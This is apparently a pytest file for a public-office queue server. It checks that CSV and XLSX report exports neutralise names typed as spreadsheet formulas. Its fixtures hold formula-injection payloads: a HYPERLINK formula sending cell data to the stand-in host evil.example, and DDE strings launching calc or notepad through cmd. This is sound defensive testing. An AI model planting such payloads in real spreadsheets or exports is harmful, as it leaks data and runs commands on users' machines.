"""Hole 8: names typed as spreadsheet formulas come out of CSV and XLSX exports as plain text."""

from __future__ import annotations

import csv
import io
from collections.abc import Callable
from datetime import date
from typing import Any

from flask import Flask
from openpyxl import load_workbook

from display_server.reports import Period, Report, ReportRow, csv_bytes, xlsx_bytes
from display_server.reports.figures import Figures
from display_server.reports.stats import DurationSummary
from tests.factories import FakeClock, issue, login, make_site

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Xem chi tiết")'
HOSTILE = {
    "A": HYPERLINK,
    "B": "+1+cmd|' /C calc'!A0",
    "C": "-2+3+cmd|' /C calc'!A0",
    "D": "@SUM(1+1)*cmd|' /C calc'!A0",
}
OFFICERS = {"lan": "=1+2", "hung": "\t=3+4", "binh": "\r=5+6"}
OFFICE = "=cmd|' /C notepad'!A0"
TODAY = "from=2026-11-25&to=2026-11-25"


def hostile_site() -> dict[str, Any]:
    """The test site with services, officers and the office named like formulas."""
    site = make_site(name=OFFICE)
    site["voice"] = {"play_on_server": False, "repeat": 1}
    # One client issues them all.
    site["security"] = {"anonymous_tickets_per_minute": 1000, "anonymous_tickets_per_day": 100_000}
    for service in site["services"]:
        service["name"] = HOSTILE[service["code"]]
    for officer in site["officers"]:
        officer["full_name"] = OFFICERS.get(officer["username"], officer["full_name"])
    return site


def serve_everything(app: Flask, clock: FakeClock) -> None:
    """One ticket of each service, called and finished by an officer, so every name shows."""
    client = app.test_client()
    for code in HOSTILE:
        issue(client, code)
    clock.advance(minutes=3)
    for username, counter, services in (("lan", 1, "AB"), ("hung", 2, "C"), ("binh", 3, "D")):
        headers = login(client, username, counter)
        for _ in services:
            called = client.post(f"/api/v1/counters/{counter}/call-next", headers=headers)
            assert called.status_code == 200, called.get_json()
            clock.advance(minutes=2)
            finished = client.post(f"/api/v1/counters/{counter}/finish", headers=headers)
            assert finished.status_code == 200, finished.get_json()


def export(app: Flask, group: str, kind: str) -> Any:
    """The report through the JSON API as a supervisor."""
    client = app.test_client()
    headers = login(client, "mai")
    response = client.get(f"/api/v1/reports?{TODAY}&group={group}&format={kind}", headers=headers)
    assert response.status_code == 200, response.data[:300]
    return response


def csv_rows(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def test_csv_and_xlsx_exports_keep_formula_like_names_as_text(
    make_app: Callable[..., Flask], clock: FakeClock
) -> None:
    app = make_app(site=hostile_site(), features=["display_server.admin"], clock=clock)
    serve_everything(app, clock)
    typed = {*HOSTILE.values(), *OFFICERS.values()}

    for group in ("service", "officer"):
        response = export(app, group, "csv")
        assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
        cells = [cell for row in csv_rows(response.data) for cell in row]
        names = [cell for cell in cells if cell.lstrip("'") in typed]
        assert names, cells
        # OWASP: a leading single quote, and nothing else changed.
        assert all(cell.startswith("'") for cell in names), names
        assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]

        book = load_workbook(io.BytesIO(export(app, group, "xlsx").data))
        # XML reads a carriage return back as a line feed; otherwise the text is as typed.
        in_xml = {name.replace("\r", "\n") for name in typed | {OFFICE}}
        shown = []
        for sheet in book.worksheets:
            for row in sheet.iter_rows():
                for cell in row:
                    assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                    if isinstance(cell.value, str) and cell.value in in_xml:
                        assert cell.data_type == "s" and cell.quotePrefix
                        shown.append(cell.value)
        # In the workbook the text is exactly as typed: it is a string cell, not a formula.
        wanted = set(HOSTILE.values()) if group == "service" else set(OFFICERS.values())
        assert {name.replace("\r", "\n") for name in wanted | {OFFICE}} <= set(shown)


def test_numbers_stay_numbers_negative_ones_too() -> None:
    late = DurationSummary(2, -90.0, -90.0, -60.0)  # a clock set back: a negative wait
    figures = Figures(issued=2, served=1, wait=late)
    report = Report(
        office_name="@office",
        office_unit="Bộ phận Một cửa",
        timezone="Asia/Ho_Chi_Minh",
        period=Period(date(2026, 11, 25), date(2026, 11, 25)),
        grouping="service",
        rows=[ReportRow(key="-1", label="-1", figures=figures)],
        total=figures,
        satisfied_score=2,
    )
    header, row, total = csv_rows(csv_bytes(report))
    assert row[:4] == ["'-1", "'-1", "2", "1"]
    assert row[header.index("Thời gian chờ trung bình (phút)")] == "-1.50"
    sheet = load_workbook(io.BytesIO(xlsx_bytes(report)))["Báo cáo"]
    assert (sheet["A2"].value, sheet["A2"].data_type) == ("-1", "s")
    wait = sheet.cell(2, header.index("Thời gian chờ trung bình (phút)") + 1)
    assert (wait.value, wait.data_type) == (-1.5, "n")
    assert (sheet["C2"].value, sheet["C2"].data_type) == (2, "n")
